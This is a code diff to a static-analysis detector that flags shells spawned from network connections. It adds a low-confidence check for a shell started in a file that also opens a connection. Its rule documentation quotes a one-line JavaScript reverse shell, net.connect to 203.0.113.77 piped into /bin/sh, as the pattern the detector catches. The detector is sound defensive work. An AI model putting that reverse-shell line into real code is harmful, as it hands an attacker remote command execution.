@@ -9,7 +9,8 @@ the user who started the server.
 
 **Example.** `const link = net.connect(4443, "203.0.113.77"); link.pipe(spawn("/bin/sh").stdin)`
 
-**Reported with less weight.** A browser that is opened through a shell on an address from the network, in
+**Reported with less weight.** A shell that is started in the same file that opens a connection, where the way
+from one to the other is not known. A browser that is opened through a shell on an address from the network, in
 quotes: a shell still replaces `$(...)` inside of them.
 
 **Left alone.** A browser that is opened without a shell; a shell that runs what the caller of a tool asks
@@ -30,6 +31,7 @@ from douane.detectors._credentials import command_lines
 from douane.detectors._flow import HOLE, program_of
 from douane.detectors._flow.shapes import elements
 from douane.detectors._places import evidence_at, is_aside
+from douane.detectors._shell_beside import WHY, shells_beside_connections
 from douane.model import Confidence, Severity
 from douane.rules import Evidence, Rule
 
@@ -63,9 +65,11 @@ def look(codebase: Codebase) -> Iterator[Evidence]:
     searched = program.paths if program.size <= _LARGE else program.importing(starters)
     paths = tuple(path for path in searched if not _STARTING.isdisjoint(program.words(path)))
     judge = _Judge(program)
+    told: set[str] = set()
     for _, call in catalogue(sources.EXECUTION, "start").calls(program, paths):
         why = judge.why(call)
         if why:
+            told.add(call.index.path)
             views = why == _VIEWS
             severity = Severity.MEDIUM if views else None
             yield evidence_at(
@@ -75,6 +79,9 @@ def look(codebase: Codebase) -> Iterator[Evidence]:
                 confidence=Confidence.LOW if views else None,
                 remedy=_NO_SHELL if views else None,
             )
+    for call in shells_beside_connections(program):
+        if call.index.path not in told:
+            yield evidence_at(call, why=WHY, severity=Severity.MEDIUM, confidence=Confidence.LOW)
 
 
 class _Judge:
